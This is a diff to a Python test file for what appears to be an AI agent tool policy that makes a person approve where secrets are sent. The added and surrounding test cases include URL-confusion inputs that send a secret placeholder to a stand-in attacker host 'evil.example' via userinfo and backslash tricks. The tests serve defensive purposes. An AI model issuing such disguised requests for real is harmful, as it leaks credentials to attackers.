@@ -313,6 +313,8 @@ async def test_a_person_approves_where_a_secret_goes(name: str, args: Mapping[st
         ("fetch", {"url": "http://example.org/?k=secret:API"}, False),
         ("fetch", {"url": "https://badexample.org/?k=secret:API"}, False),
         ("fetch", {"url": "https://example.org@evil.example/?k=secret:API"}, False),
+        ("fetch", {"url": "https://evil.example\\@example.org/?k=secret:API"}, False),
+        ("fetch", {"url": "//example.org/?k=secret:API"}, False),
         ("fetch", {"url": "https://example.org/?k=secret:API&l=secret:ODD"}, False),
         ("run", {"command": "curl https://example.org/ -H secret:API"}, False),
         ("use", {"text": "secret:API"}, False),
@@ -328,6 +330,13 @@ async def test_a_secret_goes_to_its_own_sites_without_approval(
     async with open_test_session(tools=[use, run, fetch], environment=AROUND, settings=settings) as session:
         result = await session.call(name, args)
     assert (result.ok, len(GIVEN)) == (passes, int(passes)), dict(result)
+
+
+async def test_a_rule_of_the_person_that_lifts_the_floor_lets_a_secret_pass() -> None:
+    rule = {"tool": "use", "decision": "allow", "lifts": ["secrets:named_secret"]}
+    async with open_test_session(tools=[use], environment=AROUND, settings={"policy": {"rules": [rule]}}) as session:
+        assert (await session.call("use", {"text": "secret:API"})).ok
+    assert GIVEN == [(VALUE, None)]
 
 
 async def test_words_that_name_no_secret_are_not_asked_about() -> None:
